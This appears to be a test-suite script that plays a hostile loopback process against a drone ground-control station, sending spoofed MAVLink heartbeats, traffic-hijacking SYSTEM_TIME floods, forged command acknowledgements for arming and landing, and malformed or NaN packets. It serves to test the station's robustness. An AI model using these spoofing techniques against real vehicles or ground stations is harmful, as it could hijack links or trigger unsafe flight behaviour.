"""A hostile process on loopback: sends spoofing and malformed-packet attacks to a GCS's
vehicle ports.

    python -m tests.flight.attacker --ports 24540,24541 --systems 1,2 --duration 8 \
        --attacks heartbeat,hijack,ack,truncated,random,nan [--rate-scale 0.2]

Attacks, each to every port, for every system id given (the vehicles it impersonates):
- heartbeat: HEARTBEAT in POSCTL, disarmed (10 Hz);
- hijack: SYSTEM_TIME (200 Hz), to make the GCS send that vehicle's traffic here;
- ack: COMMAND_ACK ACCEPTED for arming, DO_SET_MODE, NAV_LAND, REQUEST_MESSAGE (50 Hz);
- truncated: the 3-byte truncated header ``fd ff 00`` (20 Hz);
- random: random datagrams of 1..280 bytes (20 Hz);
- nan: LOCAL_POSITION_NED with NaN position and velocity (30 Hz).

`--rate-scale` multiplies every rate (1 by default).

It stops after `duration` or when its stdin closes, whichever comes first. It listens on its
own socket the whole time and prints one JSON line at the end:
{"sent": datagrams sent, "received": datagrams received, "received_types": [...]}.
"""

from __future__ import annotations

import argparse
import json
import math
import os
import random
import select
import socket
import sys
import time

os.environ.setdefault("MAVLINK20", "1")

from pymavlink.dialects.v20 import common as mavlink

RATES = {"heartbeat": 10.0, "hijack": 200.0, "ack": 50.0, "truncated": 20.0, "random": 20.0,
         "nan": 30.0}
POSCTL = 3 << 16  # PX4 custom mode: main mode POSCTL


def packets(kind: str, system_id: int, rng: random.Random) -> list[bytes]:
    mav = mavlink.MAVLink(None, srcSystem=system_id, srcComponent=1)
    if kind == "heartbeat":
        return [mav.heartbeat_encode(mavlink.MAV_TYPE_QUADROTOR, mavlink.MAV_AUTOPILOT_PX4,
                                     mavlink.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED, POSCTL,
                                     mavlink.MAV_STATE_STANDBY).pack(mav)]
    if kind == "hijack":
        return [mav.system_time_encode(int(time.time() * 1e6), 0).pack(mav)]
    if kind == "ack":
        return [mav.command_ack_encode(cmd, mavlink.MAV_RESULT_ACCEPTED, 0, 0, 255, 190).pack(mav)
                for cmd in (mavlink.MAV_CMD_COMPONENT_ARM_DISARM, mavlink.MAV_CMD_DO_SET_MODE,
                            mavlink.MAV_CMD_NAV_LAND, mavlink.MAV_CMD_REQUEST_MESSAGE)]
    if kind == "truncated":
        return [b"\xfd\xff\x00"]
    if kind == "random":
        return [rng.randbytes(rng.randint(1, 280))]
    if kind == "nan":
        nan = math.nan
        return [mav.local_position_ned_encode(0, nan, nan, nan, nan, nan, nan).pack(mav)]
    raise ValueError(kind)


def drain(sock: socket.socket) -> tuple[int, set[str]]:
    """Read every datagram waiting on the non-blocking `sock`: how many there were, and the
    message types they held (what a vehicle or the GCS sent the attacker back)."""
    count, types = 0, set()
    while True:
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return count, types
        count += 1
        parsed = mavlink.MAVLink(None)
        parsed.robust_parsing = True
        types.update(m.get_type() for m in parsed.parse_buffer(data) or [])


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ports", required=True)
    parser.add_argument("--systems", required=True)
    parser.add_argument("--duration", type=float, required=True)
    parser.add_argument("--attacks", default=",".join(RATES))
    parser.add_argument("--rate-scale", type=float, default=1.0)
    args = parser.parse_args()
    ports = [int(p) for p in args.ports.split(",")]
    systems = [int(s) for s in args.systems.split(",")]
    attacks = args.attacks.split(",")
    rng = random.Random(8)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    print(json.dumps({"ready": True}), flush=True)
    start = time.monotonic()
    due = dict.fromkeys(attacks, start)
    sent = received = 0
    types: set[str] = set()
    while (now := time.monotonic()) < start + args.duration:
        for kind in attacks:
            if now >= due[kind]:
                due[kind] += 1.0 / (RATES[kind] * args.rate_scale)
                for system_id in systems:
                    for buf in packets(kind, system_id, rng):
                        for port in ports:
                            sock.sendto(buf, ("127.0.0.1", port))
                            sent += 1
        count, kinds = drain(sock)
        received += count
        types |= kinds
        if select.select([sys.stdin], [], [], 0.002)[0]:
            break  # stdin closed (or written to): stop
    print(json.dumps({"sent": sent, "received": received, "received_types": sorted(types)}),
          flush=True)


if __name__ == "__main__":
    main()
